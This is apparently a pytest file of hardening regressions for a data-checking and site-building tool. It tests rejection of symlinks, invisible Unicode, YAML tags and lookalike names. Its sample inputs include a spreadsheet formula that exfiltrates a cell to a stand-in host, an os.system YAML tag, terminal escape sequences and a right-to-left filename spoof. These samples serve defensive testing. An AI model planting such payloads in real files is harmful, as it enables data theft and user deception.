"""Regressions of the hardening review: each input here once passed `make check`, crashed a build or
published something else than the data said. Each now gets one clean `path:line:col: message`.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import re
import shutil
import unicodedata
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from benchmarks.generate import write_synthetic_data
from macros.commands.check_schemas import check_files
from macros.commands.new import ScaffoldError, build_new_entity
from macros.kb import schemas as schema
from macros.kb.documents import load_document
from macros.kb.load import KnowledgeBaseLoader, build_knowledge_base
from macros.kb.model import Text
from macros.kb.patterns import is_id
from macros.kb.problems import Problem
from macros.kb.textrules import forbidden_character
from macros.site.api import FORMULA_START, render_matrix_csv, render_portfolio_csv
from macros.site.render import safe_id
from tests.sitebuild import ROOT, build_site


@pytest.fixture
def data(tmp_path: Path) -> Path:
    return write_synthetic_data(tmp_path / "data", seed=0)


def errors(data: Path) -> list[str]:
    return [str(p) for p in build_knowledge_base(data).problems if p.severity == "error"]


def line_of(path: Path, needle: str) -> int:
    """The number of the first line of path that holds needle."""
    return next(n for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if needle in line)


def replace_in(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


# --- ids and file names match whole: a final newline is not an id ----------------------------


@pytest.mark.parametrize("text", ["cap-1\n", "cap-1\n\n", "\ncap-1", "cap-1 ", "Cap-1", "cap--1", ""])
def test_an_id_is_the_whole_text(text: str) -> None:
    assert not is_id(text)
    with pytest.raises(ValueError, match="not an id"):
        safe_id(text)


def test_an_id_with_a_final_newline_is_refused(data: Path) -> None:
    replace_in(data / "capabilities/cap-0.yml", "related:\n- ", 'related:\n- "cap-9\\n"\n- ')
    line = line_of(data / "capabilities/cap-0.yml", "cap-9")
    assert next(e for e in errors(data) if "related[0]" in e).startswith(
        f"data/capabilities/cap-0.yml:{line}:3: related[0]: 'cap-9\\n' is not valid (An id in kebab-case"
    )


def test_a_file_name_with_a_final_newline_is_refused(data: Path) -> None:
    (data / "tags/tag-stage.yml").rename(data / "tags/tag-stage\n.yml")
    assert (
        "data/tags/tag-stage\\n.yml:1:1: 'tag-stage\\n' is not a valid id: the file name is the id, in kebab-case (e.g. model-registry.yml)"
        in errors(data)
    )


def test_make_new_refuses_an_id_with_a_final_newline(data: Path) -> None:
    with pytest.raises(ScaffoldError, match="is not a valid id"):
        build_new_entity("tag", "feature-flags\n", data)
    assert not list((data / "tags").glob("feature-flags*"))


def test_a_fast_path_rejection_is_never_turned_into_acceptance(data: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Should the two validators ever disagree again, the file is refused, where the fast one says."""
    replace_in(data / "capabilities/cap-0.yml", "related:\n- ", 'related:\n- "cap-1\\n"\n- ')
    doc, problems = load_document(data / "capabilities/cap-0.yml", data)
    assert not problems
    # The Python validator as it was: `re.search` lets `$` match before the final newline.
    common = schema.load_schema("common")
    from referencing import Registry, Resource

    plain = Draft202012Validator(
        schema.load_schema("capability"),
        registry=Registry().with_resource("common.schema.json", Resource.from_contents(common)),
    )
    monkeypatch.setattr(schema, "_validator", lambda kind: plain)
    assert next(plain.iter_errors(doc.data), None) is None
    line = line_of(data / "capabilities/cap-0.yml", "cap-1\\n")
    assert [str(p) for p in schema.check_schema(doc)] == [
        f"data/capabilities/cap-0.yml:{line}:3: related[0]: 'cap-1\\n' does not match the schema "
        '("cap-1\\n" does not match "^[a-z0-9]+(-[a-z0-9]+)*$")'
    ]


# --- hidden and editor files; links --------------------------------------------------------------

EDITOR_FILES = {  # what editors leave beside the file being edited
    "tags/.#tag-stage.yml": None,  # Emacs' lock: a link to nothing, while a buffer is unsaved
    "tags/tag-stage.yml~": b"name: [half an edit\n",  # Emacs' and others' backup
    "tags/.tag-stage.yml.swp": b"b0VIM 9.0\x00\x00\xff\xfe",  # Vim's swap file
    "tags/#tag-stage.yml#": b"{{{ autosave\n",  # Emacs' autosave
    ".git/HEAD": b"ref: refs/heads/main\n",
}


def write_editor_files(data: Path) -> None:
    for relative, content in EDITOR_FILES.items():
        path = data / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if content is None:
            path.symlink_to("user@host.12345:1700000000")
        else:
            path.write_bytes(content)


@pytest.mark.site
def test_editor_files_are_ignored_by_the_check_and_the_build(data: Path, tmp_path: Path) -> None:
    write_editor_files(data)
    assert errors(data) == []
    # The build (and `make serve`, the same hook) once died on the lock file in its change detection.
    result = build_site(tmp_path / "site", data_dir=data)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr


def test_editor_files_do_not_make_make_serve_load_the_data_again(data: Path) -> None:
    loader = KnowledgeBaseLoader()
    before = loader.load(data)
    write_editor_files(data)
    assert loader.load(data) is before
    (data / "tags/tag-stage.yml").touch()  # saved unchanged: the same bytes, nothing to check again
    assert loader.load(data) is before


def test_a_symlink_to_another_data_file_is_refused(data: Path) -> None:
    (data / "capabilities/cap-copy.yml").symlink_to("cap-0.yml")
    assert errors(data) == [
        "data/capabilities/cap-copy.yml:1:1: a data file may not be a link (this one shows data/capabilities/cap-0.yml a second time; remove it)"
    ]


def test_a_symlink_loop_is_refused(data: Path) -> None:
    (data / "tags/a.yml").symlink_to("b.yml")
    (data / "tags/b.yml").symlink_to("a.yml")
    assert errors(data) == [
        "data/tags/a.yml:1:1: a link that leads back to itself (a loop; remove it)",
        "data/tags/b.yml:1:1: a link that leads back to itself (a loop; remove it)",
    ]


def test_a_folder_loop_is_refused_not_followed(data: Path) -> None:
    (data / "tags/again").symlink_to("..")
    assert errors(data) == ["data/tags/again:1:1: a folder in data/ may not be a link (move its files in instead)"]


@pytest.mark.site
def test_a_dangling_symlink_makes_no_traceback_in_the_build(data: Path, tmp_path: Path) -> None:
    (data / "tags/gone.yml").symlink_to(tmp_path / "nowhere.yml")
    result = build_site(tmp_path / "site", data_dir=data)
    assert result.returncode != 0
    assert "data/tags/gone.yml:1:1: a link to nothing (its target does not exist; remove it)" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "site").exists()


def test_a_fifo_is_refused_unread(data: Path) -> None:
    os.mkfifo(data / "tags/pipe.yml")
    assert errors(data) == ["data/tags/pipe.yml:1:1: not a regular file (data files are plain text files; remove it)"]


# --- CSV: no cell is a formula --------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_matrix_csv_cells_are_never_formulas(data: Path, formula: str) -> None:
    kb = build_knowledge_base(data).knowledge_base
    assert kb is not None
    char = next(iter(kb.characteristics.values()))
    hostile = dataclasses.replace(char.recommendations[0], why=Text(formula, formula))
    kb.characteristics[char.id] = dataclasses.replace(char, recommendations=(hostile, *char.recommendations[1:]))
    rows = list(csv.DictReader(io.StringIO(render_matrix_csv(kb), newline="")))
    row = next(r for r in rows if r["characteristic"] == char.id and r["capability"] == hostile.capability)
    assert (row["why_en"], row["why_ja"]) == ("'" + formula, "'" + formula)
    assert [cell for r in rows for cell in r.values() if cell.startswith(tuple(FORMULA_START))] == []


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_portfolio_csv_cells_are_never_formulas(data: Path, formula: str) -> None:
    kb = build_knowledge_base(data).knowledge_base
    assert kb is not None and kb.systems, "the data holds systems"
    system = next(iter(kb.systems.values()))
    kb.systems[system.id] = dataclasses.replace(system, name=Text(formula, formula), owner=Text(formula, formula))
    rows = list(csv.DictReader(io.StringIO(render_portfolio_csv(kb), newline="")))
    row = next(r for r in rows if r["system"] == system.id)
    assert (row["name_en"], row["owner_ja"]) == ("'" + formula, "'" + formula)
    assert [cell for r in rows for cell in r.values() if cell.startswith(tuple(FORMULA_START))] == []
    assert len(rows) == len(kb.systems) * len(kb.capabilities)


def test_the_profiler_csv_uses_the_same_formula_rule() -> None:
    script = (ROOT / "overrides/assets/javascripts/profiler.js").read_text(encoding="utf-8")
    rule = re.search(
        r"function csvCell\(value\) \{.*?if \(/\^\[(.*?)\]/\.test\(cell\)\) cell = \"'\" \+ cell;", script, re.S
    )
    assert rule, "profiler.js's csvCell no longer guards formulas as expected"
    assert rule[1].replace("\\-", "-").encode().decode("unicode_escape") == FORMULA_START


# --- make new writes only new files inside data/ ----------------------------------------------------


def test_make_new_never_writes_through_a_dangling_link(data: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.yml"
    (data / "tags/feature-flags.yml").symlink_to(outside)
    with pytest.raises(ScaffoldError) as refused:
        build_new_entity("tag", "feature-flags", data)
    assert (
        str(refused.value)
        == "data/tags/feature-flags.yml is a link (links are refused in data/; remove it, then run make new again)"
    )
    assert not outside.exists()


def test_make_new_never_writes_into_a_linked_folder(data: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    shutil.rmtree(data / "tags")
    (data / "tags").symlink_to(outside)
    with pytest.raises(ScaffoldError) as refused:
        build_new_entity("tag", "feature-flags", data)
    assert str(refused.value) == "data/tags/ is a link (data files are written only into the repository's data/ folder)"
    assert list(outside.iterdir()) == []


# --- text that can only be a mistake ---------------------------------------------------------------

TAG = "tags/tag-stage.yml"
VALID_TAG = "name:\n  en: Stage\n  ja: 段階\ngroup: stage\ndescription:\n  en: A stage\n  ja: 段階です\n"


def tag_errors(data: Path, text: str) -> list[str]:
    (data / TAG).write_text(text, encoding="utf-8")
    return errors(data)


@pytest.mark.parametrize(
    "value, message",
    [
        ('"   "', "holds only spaces or invisible characters (write the text, or remove the field)"),
        ('"\\u00a0\\u3000\\u200b"', "holds only spaces or invisible characters (write the text, or remove the field)"),
        ('"a\\0b"', "holds the invisible control character U+0000 NULL (remove it)"),
        ('"a\\ab"', "holds the invisible control character U+0007 BELL (remove it)"),
        ('"a\\bb"', "holds the invisible control character U+0008 BACKSPACE (remove it)"),
        ('"a\\x7fb"', "holds the invisible control character U+007F DELETE (remove it)"),
        ('"a\\x9bb"', "holds the invisible control character U+009B (remove it)"),
        ('"a\\x1b[31mred"', "holds the invisible control character U+001B ESCAPE (remove it)"),
        (
            '"admin\\u202Egnp.exe"',
            "holds the bidirectional control U+202E RIGHT-TO-LEFT OVERRIDE, which reorders how the text is shown (remove it)",
        ),
        (
            '"a\\u2066b"',
            "holds the bidirectional control U+2066 LEFT-TO-RIGHT ISOLATE, which reorders how the text is shown (remove it)",
        ),
        ('"a\\ufeffb"', "holds the invisible character U+FEFF BYTE ORDER MARK (remove it)"),
        ('"a\\u2028b"', "holds the invisible character U+2028 LINE SEPARATOR (remove it)"),
    ],
    ids=[
        "spaces",
        "unicode-spaces",
        "nul",
        "bel",
        "bs",
        "del",
        "c1",
        "escape",
        "rlo",
        "isolate",
        "bom",
        "line-separator",
    ],
)
def test_text_that_can_only_be_a_mistake_is_refused(data: Path, value: str, message: str) -> None:
    assert tag_errors(data, VALID_TAG.replace("A stage", value)) == [
        f"data/tags/tag-stage.yml:6:7: description.en: {message}"
    ]


# Copied text brings invisible format characters (Unicode's category Cf). In a value programs read
# (an id, an address, a mail address, a date, a choice) one makes another value than the one the
# contributor sees (a mailto: that bounces, a link elsewhere): refused at its field, naming it.
FORMAT_CHARACTERS = {
    "zero-width-space": ("\u200b", "U+200B ZERO WIDTH SPACE"),
    "word-joiner": ("\u2060", "U+2060 WORD JOINER"),
    "zero-width-joiner": ("\u200d", "U+200D ZERO WIDTH JOINER"),
    "soft-hyphen": ("\u00ad", "U+00AD SOFT HYPHEN"),
    "tag-letter": ("\U000e0041", "U+E0041 TAG LATIN CAPITAL LETTER A"),
}
# (file, a line of it, that line with the character in its value ({c}), the field's trail)
VALUES_FOR_PROGRAMS = {
    "mail-contact": (
        "systems/sys-0.yml",
        "contact: https://example.com/teams/0",
        "contact: team{c}@example.com",
        "contact",
    ),
    "https-contact": (
        "systems/sys-0.yml",
        "contact: https://example.com/teams/0",
        "contact: https://example.com/teams/{c}0",
        "contact",
    ),
    "homepage": (
        "tools/tool-0.yml",
        "homepage: https://example.com/tool-0",
        "homepage: https://example.com/tool{c}-0",
        "homepage",
    ),
    "tool-source": (
        "tools/tool-0.yml",
        "- https://example.com/tool-0/docs",
        "- https://example.com/tool-0/{c}docs",
        "sources[0]",
    ),
    "edition-url": (
        "sources/source-a.yml",
        "en: https://example.com/en/source-a",
        "en: https://{c}example.com/en/source-a",
        "url.en",
    ),
    "ring": ("tools/tool-0.yml", "  status: adopt", "  status: adopt{c}", "ring.status"),
    "id": ("systems/sys-0.yml", "like: case-0", "like: case{c}-0", "like"),
    "date": ("sources/source-a.yml", "  en: '2021-06-25'", "  en: '2021-06-25{c}'", "published.en"),
}


@pytest.mark.parametrize("char, name", FORMAT_CHARACTERS.values(), ids=FORMAT_CHARACTERS)
@pytest.mark.parametrize("file, line, changed, trail", VALUES_FOR_PROGRAMS.values(), ids=VALUES_FOR_PROGRAMS)
def test_an_invisible_character_in_a_value_for_programs_is_refused_naming_it(
    data: Path, char: str, name: str, file: str, line: str, changed: str, trail: str
) -> None:
    assert errors(data) == []  # the generated prose holds emoji joined by U+200D: text keeps them
    replace_in(data / file, line, changed.format(c=char))
    number = line_of(data / file, changed.format(c=char))
    written = (data / file).read_text(encoding="utf-8").splitlines()[number - 1]
    column = written.index("- ") + 3 if changed.startswith("- ") else written.index(": ") + 3
    assert errors(data) == [
        f"data/{file}:{number}:{column}: {trail}: holds the invisible character {name}, which no id, address, "
        "date or other value of fixed form may hold (remove it: it often comes with copied text)"
    ]


def test_the_rest_of_the_file_is_checked_as_if_the_invisible_character_were_not_there(data: Path) -> None:
    """'not-rated' with a joiner behind it is no 'not-rated' to the schema, which then asked for the reason
    and date of a ring: two problems that go once the one named is removed."""
    path = data / "tools/tool-0.yml"
    text = path.read_text(encoding="utf-8")
    start, end = text.index("ring:\n"), text.index("sources:")
    path.write_text(text[:start] + "ring:\n  status: not-rated\u200d\n" + text[end:], encoding="utf-8")
    line = line_of(path, "not-rated")
    assert errors(data) == [
        f"data/tools/tool-0.yml:{line}:11: ring.status: holds the invisible character U+200D ZERO WIDTH JOINER, "
        "which no id, address, date or other value of fixed form may hold (remove it: it often comes with copied text)"
    ]


def test_the_schema_check_alone_names_the_invisible_character_too(data: Path) -> None:
    """`make schemas` (pre-commit) runs the schema check without the text rules: it names the cause too."""
    replace_in(data / "systems/sys-0.yml", "like: case-0", "like: case\u200b-0")
    assert [p.message for p in check_files([data / "systems/sys-0.yml"])] == [
        "like: holds the invisible character U+200B ZERO WIDTH SPACE, which no id, address, date or other value "
        "of fixed form may hold (remove it: it often comes with copied text)"
    ]


def test_an_owner_written_like_another_but_not_the_same_is_refused(data: Path) -> None:
    """The portfolio's owner filter groups systems by the owner's text: one team written twice would be two."""
    original = (data / "systems/sys-0.yml").read_text(encoding="utf-8")
    start, end = original.index("owner:\n"), original.index("contact:")
    for id, owner in (("sys-0", "Payments risk"), ("sys-9", "Payments\u200b risk")):
        text = original[:start] + f"owner:\n  en: {owner}\n  ja: 決済リスク\n" + original[end:]
        (data / f"systems/{id}.yml").write_text(text.replace("(sys-0.name.", f"({id}.name."), encoding="utf-8")
    line = line_of(data / "systems/sys-9.yml", "Payments")
    assert errors(data) == [
        f"data/systems/sys-9.yml:{line}:7: owner.en: 'Payments\u200b risk' reads the same as owner.en of "
        "systems/sys-0 ('Payments risk') but is written differently: one holds U+200B ZERO WIDTH SPACE "
        "(write the owner the same way in both)"
    ]


def test_newlines_tabs_and_right_to_left_marks_are_text(data: Path) -> None:
    (data / TAG).write_text(VALID_TAG.replace("A stage", '"one\\ttwo\\n\\nשלום\\u200f 👩🏽‍💻 𠮷"'), encoding="utf-8")
    assert build_knowledge_base(data).ok


@pytest.mark.parametrize(
    "value, tag",
    [
        ("!!binary aGVsbG8=", "!!binary"),
        ("!ENV [HOME]", "!ENV"),
        ("!!python/name:os.system", "!!python/name:os.system"),
    ],
)
def test_yaml_tags_are_refused_not_ignored(data: Path, value: str, tag: str) -> None:
    assert tag_errors(data, VALID_TAG.replace("A stage", value)) == [
        f"data/tags/tag-stage.yml:6:7: description.en: the YAML tag '{tag}' is not supported: data is plain text (remove the tag)"
    ]


def test_a_byte_order_mark_mid_file_is_named(data: Path) -> None:
    assert tag_errors(data, VALID_TAG.replace("group:", "\ufeffgroup:")) == [
        "data/tags/tag-stage.yml:4:2: YAML syntax: did not find expected key "
        "(the line holds the invisible character U+FEFF BYTE ORDER MARK; remove it)"
    ]


def test_an_invisible_character_in_a_quoted_value_is_not_blamed_for_the_line_s_syntax(data: Path) -> None:
    # The zero-width space is text inside quotes; the cause is the key's indentation, before it.
    assert tag_errors(data, VALID_TAG.replace("group: stage", ' group: "st\u200bage"')) == [
        "data/tags/tag-stage.yml:4:2: YAML syntax: did not find expected key "
        "(indentation: 'group' is indented 1 space, which matches no key above it; line it up with the keys it belongs with)"
    ]


def test_a_no_break_space_indenting_a_key_is_named(data: Path) -> None:
    # Pasted from a web page: the key's name then starts with a character the reader cannot see.
    assert tag_errors(data, VALID_TAG.replace("group: stage", "\u00a0group: stage"))[-1] == (
        "data/tags/tag-stage.yml:4:1: \u00a0group: unknown field '\u00a0group' "
        "(it holds the invisible character U+00A0 NO-BREAK SPACE; did you mean 'group'?)"
    )


def test_an_impossible_date_is_refused(data: Path) -> None:
    replace_in(data / "sources/source-a.yml", "2021-06-25", "2021-13-45")
    line = line_of(data / "sources/source-a.yml", "2021-13-45")
    assert errors(data) == [
        f"data/sources/source-a.yml:{line}:7: published.en: '2021-13-45' is not a calendar date (write YYYY-MM-DD, YYYY-MM or YYYY)"
    ]


def test_an_oversize_name_is_refused_with_its_limit(data: Path) -> None:
    assert tag_errors(data, VALID_TAG.replace("en: Stage", "en: " + "x" * 963_000)) == [
        "data/tags/tag-stage.yml:2:7: name.en: is 963,000 characters long; at most 200 (shorten it)"
    ]


@pytest.mark.parametrize(
    "other, difference",
    [
        ("Stagе", "U+0435 CYRILLIC SMALL LETTER IE"),
        ("Ｓｔａｇｅ", "U+FF33 FULLWIDTH LATIN CAPITAL LETTER S"),
        ("St\u200bage", "U+200B ZERO WIDTH SPACE"),
    ],
)
def test_a_name_that_only_looks_like_another_is_refused(data: Path, other: str, difference: str) -> None:
    (data / "tags/tag-process.yml").write_text(
        VALID_TAG.replace("段階\n", "工程\n").replace("group: stage", "group: process").replace("Stage", other),
        encoding="utf-8",
    )
    (data / TAG).write_text(VALID_TAG, encoding="utf-8")
    problems = errors(data)
    assert len(problems) == 1 and problems[0].startswith(
        "data/tags/tag-stage.yml:2:7: name.en: 'Stage' reads the same as name.en of tags/tag-process"
    )
    assert problems[0].endswith(
        f"but is written differently: one holds {difference} (write both the same way, or keep one)"
    )


def test_nfc_and_nfd_aliases_of_one_entity_are_refused(data: Path) -> None:
    path = data / "capabilities/cap-0.yml"
    text = path.read_text(encoding="utf-8")
    start = text.index("aliases:")
    block = "aliases:\n  en:\n  - Café\n  - " + unicodedata.normalize("NFD", "Café") + "\n  ja:\n  - カフェ\n"
    end = text.index("summary:")
    path.write_text(text[:start] + block + text[end:], encoding="utf-8")
    line = line_of(path, unicodedata.normalize("NFD", "Café"))
    assert errors(data) == [
        f"data/capabilities/cap-0.yml:{line}:5: aliases.en[1]: '{unicodedata.normalize('NFD', 'Café')}' reads the same as aliases.en[0] ('Café') but is written differently: "
        "one holds U+0301 COMBINING ACUTE ACCENT (write both the same way, or keep one)"
    ]


def test_two_entities_of_a_kind_never_share_a_name(data: Path) -> None:
    (data / "tags/tag-process.yml").write_text(VALID_TAG.replace("group: stage", "group: process"), encoding="utf-8")
    (data / TAG).write_text(VALID_TAG, encoding="utf-8")
    assert errors(data) == [
        "data/tags/tag-stage.yml:2:7: name.en: tags/tag-process has the same name (give each its own)",
        "data/tags/tag-stage.yml:3:7: name.ja: tags/tag-process has the same name (give each its own)",
    ]


def test_messages_escape_what_would_drive_the_terminal() -> None:
    problem = Problem("data/tags/a\x1b[2J.yml", 1, 1, "'\x1b]0;owned\x07' \u202eevil \x9b")
    assert str(problem) == "data/tags/a\\x1b[2J.yml:1:1: '\\x1b]0;owned\\x07' \\u202eevil \\x9b"


def test_a_file_holding_only_a_placeholder_is_refused_not_assembled(data: Path) -> None:
    """Found by the fuzzer: the placeholder masked 'expected a mapping', and the build crashed."""
    (data / "capabilities/cap-0.yml").write_text("todo-\n", encoding="utf-8")
    assert errors(data)[0].startswith("data/capabilities/cap-0.yml:1:1: ")


# --- the boundary table ----------------------------------------------------------------------------


def test_every_boundary_in_hardening_md_names_tests_that_exist() -> None:
    table = [
        line
        for line in (ROOT / "HARDENING.md").read_text(encoding="utf-8").splitlines()
        if line.startswith("| ") and not line.startswith(("| Boundary", "| ---"))
    ]
    assert table
    missing = []
    for row in table:
        proof = row.rstrip(" |").rsplit(" | ", 1)[1]
        modules = re.findall(r"`(tests/[\w/]+\.py)", proof)
        assert modules, f"a boundary without a test: {row[:60]}"
        sources = "".join((ROOT / module).read_text(encoding="utf-8") for module in modules)
        missing += [
            name
            for name in re.findall(r"`(?:tests/[\w/]+\.py)?::(\w+)`|\(`(test_\w+)`|, `(test_\w+)`", proof)
            for name in name
            if name and f"def {name}(" not in sources
        ]
    assert missing == []


def test_the_forbidden_characters_are_exactly_those_the_rules_name() -> None:
    """Over every code point: controls but newline and tab, bidi controls, BOM, separators, surrogates."""
    bidi = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}
    wrong = []
    for code in range(0x110000):
        char = chr(code)
        category = unicodedata.category(char)
        named = (
            (category == "Cc" and char not in "\n\t")
            or category in {"Zl", "Zp", "Cs"}
            or char == "\ufeff"
            or (unicodedata.bidirectional(char) in bidi)
        )
        if named != (forbidden_character(char) is not None):
            wrong.append(f"U+{code:04X}")
    assert wrong == []


@pytest.mark.parametrize(
    "char, name",
    [("\x85", "U+0085 NEXT LINE"), ("\u2028", "U+2028 LINE SEPARATOR"), ("\u2029", "U+2029 PARAGRAPH SEPARATOR")],
)
def test_a_line_break_editors_do_not_show_is_refused(data: Path, char: str, name: str) -> None:
    """Found by the fuzzer: YAML breaks the line there, so a hidden key could follow on what looks like one line."""
    assert tag_errors(data, VALID_TAG.replace("en: A stage", f"en: A stage{char}group: process")) == [
        f"data/tags/tag-stage.yml:6:14: the file holds {name}, which YAML reads as a line break but editors may not show (remove it)"
    ]
